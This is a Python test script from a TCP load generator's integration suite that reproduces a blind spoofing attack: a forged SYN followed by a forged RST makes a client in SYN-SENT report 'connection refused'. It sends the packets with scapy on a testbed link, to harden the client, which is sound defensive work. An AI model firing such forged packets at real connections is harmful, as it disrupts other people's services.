# SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
"""Repro (found by hostile_peer.sh): a blind attacker who knows only the
4-tuple refuses an xdpgen client connection in SYN-SENT with one SYN, at any
sequence number.

A SYN without ACK meeting a connection in SYN-SENT is taken as a
simultaneous open (RFC 9293 §3.5; src/tcp/input.cpp input_syn_sent, the
"Simultaneous open" branch): the client moves to SYN-RECEIVED with
rcv.nxt = the spoofed seq + 1 and answers with a SYN-ACK. The server's real
SYN-ACK is then unacceptable; the client ACKs it with ack = spoofed seq + 1,
which acknowledges nothing the server sent, so the server answers
<SEQ=SEG.ACK><CTL=RST> (RFC 9293 §3.10.7.4) -- exactly rcv.nxt, so the
client takes it: "connection refused". In hostile_peer.sh one connection of
2,600 failed so. This script plays both the spoofed SYN and the server's
RST, against a client whose SYNs go unanswered (a target address nobody
has: the peer does not forward), so the timing is not a race:

  tools/testbed --prefix hs up
  tools/testbed --prefix hs exec gen build/xdpgen client -i hs0 198.18.0.3:80 -m 02:00:c6:12:00:02 \\
      --src-port-range 20000-20000 -n 1 --connect-timeout 10 --json /tmp/hs-cli.json &
  sleep 1   # the client in SYN-SENT, retransmitting its SYN
  tools/testbed --prefix hs exec peer /usr/bin/python3 tests/integration/py/hostile_repro_simopen.py --iface hs1
  wait; jq .counters.failed_by_cause /tmp/hs-cli.json   # refused: 1, at once (a timeout would take 10 s)
  tools/testbed --prefix hs down

Linux's client does the same (tcp_rcv_synsent_state_process takes a bare
SYN as a crossed SYN). A load generator's client never opens simultaneously
with a listening server, so it could drop a SYN without ACK in SYN-SENT.
"""
import argparse
import random
import sys
import time

from scapy.all import IP, TCP, Ether, sendp


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--iface", required=True, help="the peer's end of the veth")
    p.add_argument("--server", default="198.18.0.3", help="the client's target address")
    p.add_argument("--server-port", type=int, default=80)
    p.add_argument("--client-port", type=int, default=20000)
    p.add_argument("--seed", type=int, default=1)
    a = p.parse_args()
    seq = random.Random(a.seed).getrandbits(32)
    eth_ip = Ether(src="02:00:c6:12:00:02", dst="02:00:c6:12:00:01") / IP(src=a.server, dst="198.18.0.1")
    # 1. The spoofed SYN: the client goes to SYN-RECEIVED, rcv.nxt = seq + 1.
    sendp(eth_ip / TCP(sport=a.server_port, dport=a.client_port, flags="S", seq=seq, window=65535),
          iface=a.iface, verbose=False)
    time.sleep(0.2)  # pacing: the client answers within microseconds
    # 2. What the server sends when the client ACKs its SYN-ACK with ack = seq + 1.
    sendp(eth_ip / TCP(sport=a.server_port, dport=a.client_port, flags="R", seq=(seq + 1) & 0xffffffff),
          iface=a.iface, verbose=False)
    print(f"sent SYN seq={seq} and RST seq={(seq + 1) & 0xffffffff}", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
